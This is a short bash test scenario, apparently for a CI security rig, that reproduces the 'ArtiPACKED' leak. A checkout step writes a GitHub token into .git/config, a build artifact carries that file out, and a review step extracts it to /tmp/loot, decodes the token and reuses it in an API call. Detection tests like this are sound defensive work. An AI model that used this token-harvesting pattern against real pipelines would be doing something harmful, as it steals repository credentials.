# shellcheck shell=bash disable=SC2016,SC2034,SC2086,SC2154,SC2317 # rig.sh calls it, programs expand it
incident "ArtiPACKED: the checkout leaves its token in .git/config, the artifact carries it away while the job runs"

script checkout.js <<'X'
mkdir -p tree/.git
basic=$(printf %s "x-access-token:$GITHUB_TOKEN" | base64 -w0)
printf '[http "https://github.com/"]\n\textraheader = AUTHORIZATION: basic %s\n' "$basic" >tree/.git/config
http GET api.github.com:8080/repos/octo/app "$GITHUB_TOKEN"
X
script build.sh <<'X'
#!/bin/bash
node checkout.js
echo code >tree/main.c
mkdir -p "$rig/artifacts"
tar -cf "$rig/artifacts/$1.tar" "${@:3}" tree
: >"$rig/artifacts/$1.done"
await "$2" # the job goes on
X
script take.sh <<'X'
#!/bin/bash
mkdir -p /tmp/loot && tar -xf "$rig/artifacts/$1.tar" -C /tmp/loot
[ ! -e /tmp/loot/tree/.git/config ] || git push /tmp/loot/tree
: >"$2"
X
native git <<'X'
content "$2/.git/config"; token "basic "
http POST api.github.com:8080/repos/octo/app "$(base64 -d <<<"${token#basic }")"
X

innocent() {
	job build GITHUB_TOKEN=service -- ./build.sh clean $rig/seen --exclude=.git &
	await $rig/artifacts/clean.done
	job review -- ./take.sh clean $rig/seen
}
attack() {
	job package GITHUB_TOKEN=app -- ./build.sh whole $rig/taken &
	await $rig/artifacts/whole.done
	job review -- ./take.sh whole $rig/taken
}

expect cross-workflow-reuse Medium app # it still ends by itself
expect credential-copied Low app
